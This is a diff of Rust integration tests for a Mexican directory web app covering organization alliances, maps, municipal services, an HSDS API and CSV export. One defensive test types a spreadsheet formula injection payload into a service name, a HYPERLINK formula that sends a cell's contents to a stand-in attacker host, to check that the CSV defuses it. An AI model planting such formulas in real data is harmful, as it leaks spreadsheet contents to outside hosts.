@@ -2,13 +2,11 @@
 //! and the map drawn from them, organizations' entries edited by their own
 //! members and checked by moderators, a municipality's coverage and services.
 
-use super::accounts::{Browser, account_in, db};
-use super::{get, test_backends};
+use super::common::{Browser, account_in, spawn_app};
 use acoge_domain::{accounts::Role, page::PageRequest};
-use acoge_store::{Backend, OrganizationFilter};
+use acoge_store::{Backend, OrganizationFilter, scratch::test_backends};
 
-/// Two organizations of Mexico City, which no other test of this binary
-/// edits: under `cargo test` every test shares one server.
+/// Two organizations of Mexico City, the `skip`th and the next: ids and names.
 async fn two_organizations(db: &acoge_store::Db, skip: usize) -> (String, String, String, String) {
     let filter = OrganizationFilter {
         state: Some(acoge_domain::StateKey::parse("09").unwrap()),
@@ -31,10 +29,11 @@ async fn two_organizations(db: &acoge_store::Db, skip: usize) -> (String, String
 #[tokio::test]
 async fn a_member_declares_an_alliance_and_the_network_and_map_show_it() {
     for backend in test_backends() {
-        let db = db(backend).await;
-        let (a, a_name, b, b_name) = two_organizations(&db, 0).await;
-        let member = account_in(&db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
-        let mut browser = Browser::signed_in(backend, &db, member.id).await;
+        let app = spawn_app(backend).await;
+        let db = &app.db;
+        let (a, a_name, b, b_name) = two_organizations(db, 0).await;
+        let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
+        let mut browser = Browser::signed_in(&app, member.id).await;
         let form = browser.get("/alianzas/nueva").await;
         assert_eq!(form.status, 200);
         assert!(
@@ -86,20 +85,20 @@ async fn a_member_declares_an_alliance_and_the_network_and_map_show_it() {
             .await;
         assert_eq!(made.status, 303, "{}", made.body);
 
-        let list = get(backend, "/alianzas", &[]).await;
+        let list = app.get("/alianzas", &[]).await;
         assert!(list.body.contains("Red de prueba") && list.body.contains("Convenio formal"));
-        let network = get(backend, "/red", &[]).await;
+        let network = app.get("/red", &[]).await;
         assert!(
             network.body.contains(&format!("/organizaciones/{a}"))
                 && network.body.contains(&format!("/organizaciones/{b}")),
             "{a_name} and {b_name} are in the network's table"
         );
-        let picture = get(backend, "/red.svg", &[]).await;
+        let picture = app.get("/red.svg", &[]).await;
         assert!(picture.body.starts_with("<svg") && picture.body.matches("<circle").count() >= 2);
         assert!(picture.body.contains("<line"));
 
         // Someone whose organization is in neither may not speak for them.
-        let (c, _, d, _) = two_organizations(&db, 2).await;
+        let (c, _, d, _) = two_organizations(db, 2).await;
         let stranger = browser
             .post(
                 "/alianzas/nueva",
@@ -113,10 +112,10 @@ async fn a_member_declares_an_alliance_and_the_network_and_map_show_it() {
             .await;
         assert_eq!(stranger.status, 403);
 
-        let map = get(backend, "/mapa", &[]).await;
+        let map = app.get("/mapa", &[]).await;
         assert_eq!(map.status, 200);
         assert_eq!(map.body.matches("<tr><th scope=\"row\">").count(), 32);
-        let svg = get(backend, "/mapa.svg", &[]).await;
+        let svg = app.get("/mapa.svg", &[]).await;
         assert!(svg.body.starts_with("<svg") && svg.body.matches("<path").count() >= 32);
     }
 }
@@ -124,10 +123,11 @@ async fn a_member_declares_an_alliance_and_the_network_and_map_show_it() {
 #[tokio::test]
 async fn members_edit_their_own_entry_and_moderators_check_it() {
     let backend = Backend::Sqlite;
-    let db = db(backend).await;
-    let (a, _, b, _) = two_organizations(&db, 4).await;
-    let member = account_in(&db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
-    let mut browser = Browser::signed_in(backend, &db, member.id).await;
+    let app = spawn_app(backend).await;
+    let db = &app.db;
+    let (a, _, b, _) = two_organizations(db, 0).await;
+    let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
+    let mut browser = Browser::signed_in(&app, member.id).await;
     let edit = format!("/organizaciones/{a}/editar");
     assert_eq!(browser.get(&edit).await.status, 200);
     assert_eq!(
@@ -174,8 +174,8 @@ async fn members_edit_their_own_entry_and_moderators_check_it() {
     assert!(page.body.contains("Tapachula") && page.body.contains("Oficina central"));
     assert!(page.body.contains("Salud") && page.body.contains("por verificar"));
 
-    let moderator = account_in(&db, Role::Moderator, None).await;
-    let mut checker = Browser::signed_in(backend, &db, moderator.id).await;
+    let moderator = account_in(db, Role::Moderator, None).await;
+    let mut checker = Browser::signed_in(&app, moderator.id).await;
     checker.get(&format!("/organizaciones/{a}")).await;
     let verified = checker
         .post(&format!("/organizaciones/{a}/verificar"), &[])
@@ -188,7 +188,8 @@ async fn members_edit_their_own_entry_and_moderators_check_it() {
 #[tokio::test]
 async fn a_municipality_shows_its_coverage_map_services_and_possible_partners() {
     for backend in test_backends() {
-        let page = get(backend, "/municipios/07089", &[]).await;
+        let app = spawn_app(backend).await;
+        let page = app.get("/municipios/07089", &[]).await;
         assert_eq!(page.status, 200);
         assert!(page.body.contains("Cobertura por sector") && page.body.contains("ubicacion.svg"));
         assert_eq!(
@@ -196,7 +197,7 @@ async fn a_municipality_shows_its_coverage_map_services_and_possible_partners() 
             11,
             "every sector"
         );
-        let locator = get(backend, "/municipios/07089/ubicacion.svg", &[]).await;
+        let locator = app.get("/municipios/07089/ubicacion.svg", &[]).await;
         assert!(locator.body.starts_with("<svg") && locator.body.contains("<circle"));
         assert!(locator.body.contains("<title>Tapachula</title>"));
         for path in [
@@ -205,24 +206,19 @@ async fn a_municipality_shows_its_coverage_map_services_and_possible_partners() 
             "/servicios",
             "/servicios?sector=salud&estado=07",
         ] {
-            assert_eq!(get(backend, path, &[]).await.status, 200, "{path}");
+            assert_eq!(app.get(path, &[]).await.status, 200, "{path}");
         }
+        assert_eq!(app.get("/servicios?sector=volar", &[]).await.status, 400);
         assert_eq!(
-            get(backend, "/servicios?sector=volar", &[]).await.status,
-            400
-        );
-        assert_eq!(
-            get(backend, "/municipios/99999/servicios", &[])
-                .await
-                .status,
+            app.get("/municipios/99999/servicios", &[]).await.status,
             404
         );
-        let tijuana = get(backend, "/municipios/02004", &[]).await.body;
+        let tijuana = app.get("/municipios/02004", &[]).await.body;
         assert!(
             tijuana.contains("cov-local"),
             "Tijuana's shelters cover housing"
         );
-        let near = get(backend, "/municipios/07089/servicios", &[]).await.body;
+        let near = app.get("/municipios/07089/servicios", &[]).await.body;
         assert!(near.contains("km") && near.matches("<li>").count() > 3);
     }
 }
@@ -230,7 +226,8 @@ async fn a_municipality_shows_its_coverage_map_services_and_possible_partners() 
 #[tokio::test]
 async fn the_directory_exports_as_hsds_pages_with_clear_errors() {
     for backend in test_backends() {
-        let orgs = get(backend, "/api/v1/hsds/organizations?per_page=5", &[]).await;
+        let app = spawn_app(backend).await;
+        let orgs = app.get("/api/v1/hsds/organizations?per_page=5", &[]).await;
         assert_eq!(orgs.status, 200);
         let page = orgs.json();
         assert!(page["total_items"].as_u64().unwrap() >= 20);
@@ -242,31 +239,32 @@ async fn the_directory_exports_as_hsds_pages_with_clear_errors() {
                 && first["name"].is_string()
                 && first["description"].is_string()
         );
-        let one = get(
-            backend,
-            &format!(
-                "/api/v1/hsds/organizations/{}",
-                first["id"].as_str().unwrap()
-            ),
-            &[],
-        )
-        .await;
+        let one = app
+            .get(
+                &format!(
+                    "/api/v1/hsds/organizations/{}",
+                    first["id"].as_str().unwrap()
+                ),
+                &[],
+            )
+            .await;
         assert_eq!(one.json()["name"], first["name"]);
         let missing = format!("/api/v1/hsds/services/{}", uuid::Uuid::now_v7());
-        assert_eq!(get(backend, &missing, &[]).await.status, 404);
-        let bad = get(backend, "/api/v1/hsds/services?page=0", &[]).await;
+        assert_eq!(app.get(&missing, &[]).await.status, 404);
+        let bad = app.get("/api/v1/hsds/services?page=0", &[]).await;
         assert_eq!(
             (bad.status, bad.json()["error"]["parameter"].clone()),
             (400, "page".into())
         );
-        assert_eq!(get(backend, "/api/v1/hsds/services", &[]).await.status, 200);
+        assert_eq!(app.get("/api/v1/hsds/services", &[]).await.status, 200);
     }
 }
 
 #[tokio::test]
 async fn the_services_table_carries_hxl_hashtags_and_refuses_bad_filters() {
     for backend in test_backends() {
-        let table = get(backend, "/servicios.csv", &[]).await;
+        let app = spawn_app(backend).await;
+        let table = app.get("/servicios.csv", &[]).await;
         assert_eq!(table.status, 200);
         assert!(
             table.headers["content-type"]
@@ -278,9 +276,7 @@ async fn the_services_table_carries_hxl_hashtags_and_refuses_bad_filters() {
         assert!(lines.next().unwrap().starts_with("Organización,"));
         assert!(lines.next().unwrap().starts_with("#org +name,#org +id"));
         assert_eq!(
-            get(backend, "/servicios.csv?sector=volar", &[])
-                .await
-                .status,
+            app.get("/servicios.csv?sector=volar", &[]).await.status,
             400
         );
     }
@@ -289,10 +285,11 @@ async fn the_services_table_carries_hxl_hashtags_and_refuses_bad_filters() {
 #[tokio::test]
 async fn members_add_services_of_their_own_organization_and_bad_places_are_named() {
     for backend in test_backends() {
-        let db = db(backend).await;
-        let (a, _, b, _) = two_organizations(&db, 6).await;
-        let member = account_in(&db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
-        let mut browser = Browser::signed_in(backend, &db, member.id).await;
+        let app = spawn_app(backend).await;
+        let db = &app.db;
+        let (a, _, b, _) = two_organizations(db, 0).await;
+        let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
+        let mut browser = Browser::signed_in(&app, member.id).await;
         let new = format!("/organizaciones/{a}/servicios/nuevo");
         assert_eq!(browser.get(&new).await.status, 200);
         assert_eq!(
@@ -362,7 +359,7 @@ async fn members_add_services_of_their_own_organization_and_bad_places_are_named
             .await;
         assert_eq!(again.status, 422, "the same name in the same municipality");
         assert!(again.body.contains("id=\"name-error\""));
-        let near = get(backend, "/municipios/07089/servicios", &[]).await.body;
+        let near = app.get("/municipios/07089/servicios", &[]).await.body;
         let listed = near
             .split("Asesoría jurídica gratuita")
             .nth(1)
@@ -378,10 +375,11 @@ async fn members_add_services_of_their_own_organization_and_bad_places_are_named
 async fn a_formula_typed_as_a_service_name_is_defused_in_the_csv() {
     const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A3,\"Ver\")";
     for backend in test_backends() {
-        let db = db(backend).await;
-        let (a, _, _, _) = two_organizations(&db, 8).await;
-        let member = account_in(&db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
-        let mut browser = Browser::signed_in(backend, &db, member.id).await;
+        let app = spawn_app(backend).await;
+        let db = &app.db;
+        let (a, _, _, _) = two_organizations(db, 0).await;
+        let member = account_in(db, Role::Member, Some(uuid::Uuid::parse_str(&a).unwrap())).await;
+        let mut browser = Browser::signed_in(&app, member.id).await;
         let new = format!("/organizaciones/{a}/servicios/nuevo");
         browser.get(&new).await;
         let made = browser
@@ -398,7 +396,7 @@ async fn a_formula_typed_as_a_service_name_is_defused_in_the_csv() {
             )
             .await;
         assert_eq!(made.status, 303, "{}", made.body);
-        let table = get(backend, "/servicios.csv?estado=07&sector=salud", &[]).await;
+        let table = app.get("/servicios.csv?estado=07&sector=salud", &[]).await;
         assert_eq!(table.status, 200);
         let row = table
             .body
